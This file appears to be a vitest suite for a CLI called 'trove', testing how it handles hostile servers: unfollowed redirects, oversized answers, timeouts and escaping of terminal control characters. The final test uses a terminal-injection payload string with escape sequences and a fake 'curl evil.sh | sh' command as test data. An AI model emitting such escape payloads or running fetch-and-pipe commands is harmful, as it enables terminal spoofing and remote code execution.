import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import { removeTempDirs, tempDir, trove } from './harness.js';
import { CONTROL, enroll, friendly, hostile, json, readBody, type Hostile } from './hostile.js';

/**
 * The CLI against servers that misbehave (stand-ins in this process, see hostile.ts): what a
 * wrong URL, a compromised host or a broken proxy answers must not take credentials elsewhere,
 * exhaust memory, hang the CLI or write to the terminal.
 */
const servers: Hostile[] = [];
const start = async (...a: Parameters<typeof hostile>) => {
  const h = await hostile(...a);
  servers.push(h);
  return h;
};
afterEach(async () => {
  for (const h of servers.splice(0)) await h.close();
});
afterAll(removeTempDirs);

const oidc = (args: string[], url: string, env: Record<string, string> = {}) =>
  trove([...args, '--url', url, '--oidc'], { configDir: tempDir(), env: { TROVE_ID_TOKEN: 'eyJ.SECRET-ID-TOKEN.sig', ...env }, timeoutMs: 60_000 }).done;
const file = (bytes: number) => {
  const f = join(tempDir(), 'app.bin');
  writeFileSync(f, Buffer.alloc(bytes, 7));
  return f;
};

describe('redirects', () => {
  it('are not followed: the CI token, the device challenge and the enrollment stay with the server named', async () => {
    const other = await start(friendly);
    const main = await start(async (req, res, seen) => {
      await readBody(req, seen);
      res.writeHead(307, { location: `${other.url}${req.url}` }).end();
    });
    let r = await oidc(['session', 'r'], main.url);
    expect(r.code).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(
      `trove: ${main.url} answered 307 to POST /api/publish/sessions/oidc, a redirect to ${other.url}/api/publish/sessions/oidc; trove does not follow redirects (they could take credentials elsewhere): use the server's own URL\n`,
    );

    const home = tempDir();
    r = await trove(['login', main.url, '--no-browser'], { configDir: home, timeoutMs: 30_000 }).done;
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`a redirect to ${other.url}/api/devices/enroll;`);

    // A device enrolled while the server behaved; then every call redirects.
    main.handle = friendly;
    await enroll(main.url, home);
    main.handle = async (req, res, seen) => {
      await readBody(req, seen);
      res.writeHead(308, { location: `${other.url}${req.url}` }).end();
    };
    r = await trove(['session', 'r', '--url', main.url], { configDir: home, timeoutMs: 30_000 }).done;
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(`answered 308 to POST /api/publish/challenge, a redirect to ${other.url}/api/publish/challenge;`);
    expect(other.seen).toEqual([]);
  });

  it('of an upload are reported with their Location, not followed, and the session is closed', async () => {
    const other = await start(friendly);
    const main = await start(async (req, res, seen) => {
      if (req.method !== 'PUT') return friendly(req, res, seen);
      res.writeHead(307, { location: `${other.url}${req.url}` }).end();
      req.resume();
    });
    const began = Date.now();
    const r = await oidc(['upload', 'r', file(1000), 'a/app.bin'], main.url);
    expect(r.code).toBe(1);
    // Answered before the whole body: the connection is dropped, not held until the server's keep-alive timeout.
    expect(Date.now() - began).toBeLessThan(4000);
    expect(r.stderr).toBe(
      `trove: ${main.url} answered 307 to the upload, a redirect to ${other.url}/raw/r/a/app.bin; trove does not follow redirects (the upload carries the session token): use the server's own URL\n`,
    );
    expect(other.seen).toEqual([]);
    expect(main.seen.map((s) => s.method)).toEqual(['POST', 'PUT', 'DELETE']);
  });
});

describe('answers larger than 1 MiB', () => {
  it('are refused with a message, for API calls and for the answer to an upload', async () => {
    const huge = async (res: import('node:http').ServerResponse, status: number) => {
      res.writeHead(status, { 'content-type': 'application/json' });
      const chunk = Buffer.alloc(1 << 20, 0x61);
      for (let i = 0; i < 64 && !res.destroyed; i++) if (!res.write(chunk)) await new Promise((ok) => res.once('drain', ok).once('close', ok));
      res.end();
    };
    let main = await start(async (req, res, seen) => {
      await readBody(req, seen);
      await huge(res, 200);
    });
    let r = await oidc(['session', 'r'], main.url);
    expect([r.code, r.stdout]).toEqual([1, '']);
    expect(r.stderr).toBe(`trove: ${main.url} sent an answer larger than 1 MiB to POST /api/publish/sessions/oidc\n`);

    main = await start(async (req, res, seen) => {
      if (req.method !== 'PUT') return friendly(req, res, seen);
      await readBody(req, seen);
      await huge(res, 201);
    });
    r = await oidc(['upload', 'r', file(1000), 'a.bin'], main.url);
    expect([r.code, r.stdout]).toEqual([1, '']);
    expect(r.stderr).toBe(`trove: ${main.url} sent an answer larger than 1 MiB to the upload\n`);
    expect(main.seen.at(-1)?.method).toBe('DELETE');
  });
});

describe('a server that stops answering ($TROVE_TIMEOUT seconds)', () => {
  it('fails an API call whose answer trickles, with a message and no stack', async () => {
    const main = await start(async (req, res, seen) => {
      await readBody(req, seen);
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{');
      const t = setInterval(() => res.write(' '), 200);
      res.on('close', () => clearInterval(t));
    });
    const r = await oidc(['session', 'r'], main.url, { TROVE_TIMEOUT: '2' });
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`trove: ${main.url} did not answer POST /api/publish/sessions/oidc within 2 s\n`);
  });

  it('fails an upload the server takes but never answers, or stops reading, and closes the session', async () => {
    for (const stall of ['never answers', 'stops reading'] as const) {
      const main = await start(async (req, res, seen) => {
        if (req.method !== 'PUT') return friendly(req, res, seen);
        if (stall === 'never answers') req.resume();
        else req.pause();
      });
      const began = Date.now();
      const r = await oidc(['upload', 'r', file(stall === 'never answers' ? 100_000 : 64 << 20), 'a.bin'], main.url, { TROVE_TIMEOUT: '2' });
      expect(r.code, stall).toBe(1);
      const why = stall === 'never answers' ? 'received the whole file but did not answer within 3 s' : 'stopped taking the upload: nothing for 2 s';
      expect(r.stderr).toBe(`trove: ${main.url} ${why}\n`);
      expect(Date.now() - began).toBeLessThan(20_000);
      expect(main.seen.map((s) => s.method)).toEqual(['POST', 'PUT', 'DELETE']);
    }
  });
  it('waits for a server that stores a large file after its body arrived, longer than the idle time', async () => {
    const main = await start(async (req, res, seen) => {
      if (req.method !== 'PUT') return friendly(req, res, seen);
      await readBody(req, seen);
      await new Promise((r) => setTimeout(r, 3000)); // storing 64 MiB to a slow store, silent meanwhile
      json(res, 201, { path: 'a.bin' });
    });
    const r = await oidc(['upload', 'r', file(64 << 20), 'a.bin'], main.url, { TROVE_TIMEOUT: '1' });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
  });
});

describe("the server's text on the terminal", () => {
  it('has its control characters shown escaped, never sent to the terminal', async () => {
    const evil = 'denied\u001b]0;pwned\u0007\u001b[2J\r\u009b31mFAKE: run curl evil.sh | sh';
    let main = await start(async (req, res, seen) => {
      await readBody(req, seen);
      json(res, 401, { error: evil });
    });
    let r = await oidc(['session', 'r'], main.url);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(CONTROL);
    expect(r.stderr).toBe(`trove: ${main.url} refused the CI identity token: denied\\u001b]0;pwned\\u0007\\u001b[2J\\u000d\\u009b31mFAKE: run curl evil.sh | sh\n`);

    // A device name, an upload's answer (JSON stays JSON) and a session token.
    const named = { ...(await import('./hostile.js')).device, name: `box${evil}` };
    main = await start(async (req, res, seen) => {
      if (req.url === '/api/devices/enroll/poll' || req.url === '/api/publish/challenge') return readBody(req, seen).then(() => json(res, 200, { nonce: 'n', ...named }));
      if (req.method === 'PUT') return readBody(req, seen).then(() => json(res, 201, { note: evil }));
      if (req.url === '/api/publish/sessions/oidc') return readBody(req, seen).then(() => json(res, 201, { id: 's\u001b[2J', token: `trs_\u001b]0;x\u0007`, repo: 'r', format: 'raw', expires_at: 'x' }));
      return friendly(req, res, seen);
    });
    const home = tempDir();
    r = await trove(['login', main.url, '--no-browser'], { configDir: home, timeoutMs: 30_000 }).done;
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
    for (const args of [['status'], ['status', '--json']]) {
      r = await trove([...args, '--url', main.url], { configDir: home, timeoutMs: 30_000 }).done;
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).not.toMatch(CONTROL);
      expect(r.stdout).toContain('box');
    }
    expect(JSON.parse(r.stdout).name).toBe(named.name);
    r = await oidc(['upload', 'r', file(10), 'a.bin'], main.url);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).not.toMatch(CONTROL);
    expect(JSON.parse(r.stdout)).toEqual({ note: evil });
    r = await oidc(['session', 'r'], main.url);
    expect(r.stdout + r.stderr).not.toMatch(CONTROL);
  });
});
